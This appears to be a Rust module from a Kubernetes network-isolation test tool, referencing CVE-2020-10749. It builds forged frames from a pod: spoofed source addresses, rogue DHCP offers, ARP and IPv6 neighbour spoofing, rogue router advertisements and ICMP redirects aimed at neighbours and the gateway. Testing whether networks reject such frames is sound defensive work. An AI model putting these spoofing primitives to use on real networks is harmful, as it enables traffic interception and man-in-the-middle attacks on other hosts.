//! What a pod can write that is not true, in frames right to the last checksum
//! (FLT-17, CVE-2020-10749), and who could believe it.

mod ends;
pub(crate) mod listener;

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use anyhow::bail;
use probe::frame::{BROADCAST, Link, Mac, arp, icmp, packet, udp};
use stage::addresses::{WORLD_V4, WORLD_V6};

pub(crate) use ends::{Identity, end, gateway, identity, opposite};

/// Addresses of nobody.
const STRANGER_V4: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 9);
const STRANGER_V6: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0xbad, 0, 0, 0, 0, 9);
/// Hardware addresses of nobody and of the VPC's gateway.
const STRANGERS: [Mac; 2] = [[2, 0, 0, 0, 0x66, 0x66], [0xee, 0xff, 0xff, 0xff, 0xff, 0xff]];
/// A prefix that nobody has.
const PREFIX: [u16; 4] = [0x2001, 0xdb8, 0xbad, 1];
const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
const ALL_NODES_MAC: Mac = [0x33, 0x33, 0, 0, 0, 1];
const ALL_DHCP: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 1, 2);

/// Whose addresses are taken in vain.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) struct Victim {
    pub(crate) v4: Ipv4Addr,
    pub(crate) v6: Ipv6Addr,
}

/// Who sends, to whom, and under whose name.
#[derive(Clone, PartialEq, Eq, Debug)]
pub(crate) struct Ends {
    /// The sender as it is.
    pub(crate) own: Identity,
    /// The hardware address behind the link, and its own IPv6 address.
    pub(crate) next: (Mac, Ipv6Addr),
    /// The router that listeners have.
    pub(crate) gateway: Victim,
    /// Others, the first of whom is attacked in person.
    pub(crate) others: Vec<Victim>,
}

/// What is forged.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Kind {
    Addresses,
    DhcpOffers,
    Arp,
    Neighbours,
    Routers,
    Redirects,
}

impl Kind {
    /// The kind that a feature's words mean.
    pub(crate) fn of(words: &str) -> anyhow::Result<Self> {
        Ok(match words {
            "source addresses" => Self::Addresses,
            "DHCP offers" => Self::DhcpOffers,
            "ARP messages" => Self::Arp,
            "neighbour messages" => Self::Neighbours,
            "router advertisements" => Self::Routers,
            "redirects" => Self::Redirects,
            other => bail!("nobody forges {other:?}"),
        })
    }

    /// The frames.
    pub(crate) fn frames(self, ends: &Ends) -> Vec<Vec<u8>> {
        match self {
            Self::Addresses => addresses(ends),
            Self::DhcpOffers => dhcp_offers(ends),
            Self::Arp => arp_messages(ends),
            Self::Neighbours => neighbours(ends),
            Self::Routers => routers(ends),
            Self::Redirects => redirects(ends),
        }
    }

    /// Words that a belief holds when it is a forged one, and words that make it true.
    pub(crate) fn lies(self, own: &Identity) -> (Vec<String>, Vec<String>) {
        let own_words = [own.v4.to_string(), own.v6.to_string(), own.link_local.to_string()];
        let via = |address: &String| format!("via {address} ");
        match self {
            Self::Routers => {
                let words = ["2001:db8:bad:1:".to_owned(), via(&own.link_local.to_string())];
                (words.into(), Vec::new())
            }
            Self::Redirects => (own_words.iter().map(via).collect(), Vec::new()),
            // A line of a neighbour begins with its address.
            _ => (vec![colons(own.mac)], own_words.iter().map(|word| format!("{word} ")).collect()),
        }
    }
}

/// A hardware address as everybody writes it.
pub(crate) fn colons(mac: Mac) -> String {
    mac.map(|byte| format!("{byte:02x}")).join(":")
}

/// A packet of the sender's own to each end that it may speak to, with an ending of its own.
pub(crate) fn honest(ends: &Ends, number: u8) -> Vec<(Vec<u8>, Vec<u8>)> {
    let own: [IpAddr; 2] = [ends.own.v4.into(), ends.own.v6.into()];
    let mut frames = Vec::new();
    for (place, (from, to)) in (0_u8..).zip(pairs(own, targets(ends))) {
        let ending = [b"plumbline honest ".to_vec(), vec![number, place]].concat();
        frames.push((udp(to_next(ends), (from, to), (4000, 9), &ending), ending));
    }
    frames
}

/// Others' addresses and nobody's, then others' hardware addresses on honest packets.
fn addresses(ends: &Ends) -> Vec<Vec<u8>> {
    let stranger = Victim { v4: STRANGER_V4, v6: STRANGER_V6 };
    let mut frames = Vec::new();
    for forged in ends.others.iter().copied().chain([stranger, ends.gateway]) {
        for ends_of_packet in pairs([forged.v4.into(), forged.v6.into()], targets(ends)) {
            frames.push(udp(to_next(ends), ends_of_packet, (4000, 9), b"plumbline forged"));
        }
    }
    let own: [IpAddr; 2] = [ends.own.v4.into(), ends.own.v6.into()];
    for from in STRANGERS {
        let link = Link { from, to: ends.next.0 };
        let of = |both| udp(link, both, (4000, 9), b"plumbline disguised");
        frames.extend(pairs(own, targets(ends)).map(of));
    }
    frames
}

/// From the gateway, to everybody and to the victim.
fn dhcp_offers(ends: &Ends) -> Vec<Vec<u8>> {
    let (link, gateway) = (to_next(ends), ends.gateway);
    let victim = ends.others[0];
    let all = Link { to: BROADCAST, ..link };
    let v4 = |to: Ipv4Addr| (IpAddr::from(gateway.v4), IpAddr::from(to));
    let v6 = |to: Ipv6Addr| (IpAddr::from(gateway.v6), IpAddr::from(to));
    // BOOTREPLY, and ADVERTISE, for whoever asked.
    let (offer, advertise) = (&[2, 1, 6, 0, 1, 2, 3, 4], &[2, 1, 2, 3]);
    vec![
        udp(all, v4(Ipv4Addr::BROADCAST), (67, 68), offer),
        udp(link, v4(victim.v4), (67, 68), offer),
        udp(all, v6(ALL_DHCP), (547, 546), advertise),
        udp(link, v6(victim.v6), (547, 546), advertise),
    ]
}

/// Every address of others is said to be the sender's.
fn arp_messages(ends: &Ends) -> Vec<Vec<u8>> {
    let link = to_next(ends);
    let all = Link { to: BROADCAST, ..link };
    let targets: Vec<_> = ends.others.iter().map(|other| other.v4).collect();
    let names = targets.iter().copied().chain([ends.gateway.v4]);
    let of = |forged: Ipv4Addr| {
        let asked = targets.iter().flat_map(move |to| {
            [arp(all, 1, forged, *to), arp(link, 1, forged, *to), arp(link, 2, forged, *to)]
        });
        let told = [arp(all, 1, forged, forged), arp(all, 2, forged, forged)];
        asked.chain(told).collect::<Vec<_>>()
    };
    names.flat_map(of).collect()
}

/// Advertisements that override, and questions that tell of who asks.
fn neighbours(ends: &Ends) -> Vec<Vec<u8>> {
    let link = to_next(ends);
    let all = Link { to: ALL_NODES_MAC, ..link };
    let option = |kind: u8| [&[kind, 1][..], &ends.own.mac].concat();
    let mut frames = Vec::new();
    for forged in ends.others.iter().map(|other| other.v6).chain([ends.gateway.v6]) {
        let advertised = [&[0x20, 0, 0, 0][..], &forged.octets(), &option(2)].concat();
        for from in [ends.own.link_local, forged] {
            frames.push(icmp(all, (from.into(), ALL_NODES.into()), (136, 0), &advertised));
            frames.push(icmp(link, (from.into(), ends.next.1.into()), (136, 0), &advertised));
        }
        let asked = [&[0; 4][..], &ends.next.1.octets(), &option(1)].concat();
        frames.push(icmp(link, (forged.into(), ends.next.1.into()), (135, 0), &asked));
    }
    frames
}

/// The sender is the router, and a prefix is on the link.
fn routers(ends: &Ends) -> Vec<Vec<u8>> {
    let link = to_next(ends);
    let prefix = PREFIX.map(u16::to_be_bytes).concat();
    let hour = 3600_u32.to_be_bytes();
    let option = [&[3, 4, 64, 0xc0][..], &hour, &hour, &[0; 4], &prefix, &[0; 8]].concat();
    // Hop limit, flags, lifetime, and two timers that say nothing.
    let body = [&[64, 0, 0x07, 0x08][..], &[0; 8], &option, &[1, 1], &ends.own.mac].concat();
    let from = ends.own.link_local;
    let of = |(to, target): (Mac, Ipv6Addr)| {
        icmp(Link { to, ..link }, (from.into(), target.into()), (134, 0), &body)
    };
    [(ALL_NODES_MAC, ALL_NODES), ends.next].map(of).into()
}

/// The world is said to be behind the sender: in the gateway's name, and to the node, which
/// is the pod's router, in the sender's own, too.
fn redirects(ends: &Ends) -> Vec<Vec<u8>> {
    let mut frames = Vec::new();
    for (place, victim) in ends.others.iter().enumerate() {
        frames.extend(redirect(ends, *victim, ends.gateway));
        if place > 0 {
            let own = Victim { v4: ends.own.v4, v6: ends.own.link_local };
            frames.extend(redirect(ends, *victim, own));
        }
    }
    frames
}

/// Tells `victim` in the name of `from` that its packets to the world go by the sender. The
/// kernel answers echoes by itself, so no socket has to be there that has sent one.
fn redirect(ends: &Ends, victim: Victim, from: Victim) -> [Vec<u8>; 2] {
    let (link, own) = (to_next(ends), ends.own);
    let echo = icmp(link, (victim.v4.into(), WORLD_V4.into()), (0, 0), &[0, 1, 0, 1]);
    let body = [&own.v4.octets()[..], packet(&echo)].concat();
    let v4 = icmp(link, (from.v4.into(), victim.v4.into()), (5, 1), &body);
    let ways = [own.link_local.octets(), WORLD_V6.octets()].concat();
    let body = [&[0; 4][..], &ways, &[2, 1], &own.mac].concat();
    [v4, icmp(link, (from.v6.into(), victim.v6.into()), (137, 0), &body)]
}

fn to_next(ends: &Ends) -> Link {
    Link { from: ends.own.mac, to: ends.next.0 }
}

/// The world, and the first of the others.
fn targets(ends: &Ends) -> Vec<IpAddr> {
    let other = ends.others[0];
    vec![WORLD_V4.into(), WORLD_V6.into(), other.v4.into(), other.v6.into()]
}

/// Every way from one of `from` to one of `to` of the same family that is another's.
fn pairs(from: [IpAddr; 2], to: Vec<IpAddr>) -> impl Iterator<Item = (IpAddr, IpAddr)> {
    from.into_iter().flat_map(move |from| {
        let to = to.clone().into_iter();
        to.filter(move |to| to.is_ipv4() == from.is_ipv4() && *to != from).map(move |to| (from, to))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ends() -> Ends {
        let v6 = |last| Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, last);
        let victim = |last: u8| Victim { v4: Ipv4Addr::new(10, 0, 0, last), v6: v6(last.into()) };
        let link_local = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 5);
        Ends {
            own: Identity { mac: [2, 0, 0, 0, 0, 5], v4: victim(5).v4, v6: v6(5), link_local },
            next: ([2, 0, 0, 0, 0, 1], Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 1)),
            gateway: victim(1),
            others: vec![victim(6), victim(7)],
        }
    }

    #[test]
    fn no_forged_packet_has_the_senders_own_addresses() {
        let own = [[10, 0, 0, 5]];
        for frame in addresses(&ends()).iter().filter(|frame| frame[6..12] == [2, 0, 0, 0, 0, 5]) {
            assert!(
                frame[12..14] != [8, 0] || !own.contains(&[26, 27, 28, 29].map(|at| frame[at]))
            );
        }
        assert_eq!(honest(&ends(), 1).len(), 4);
    }
}
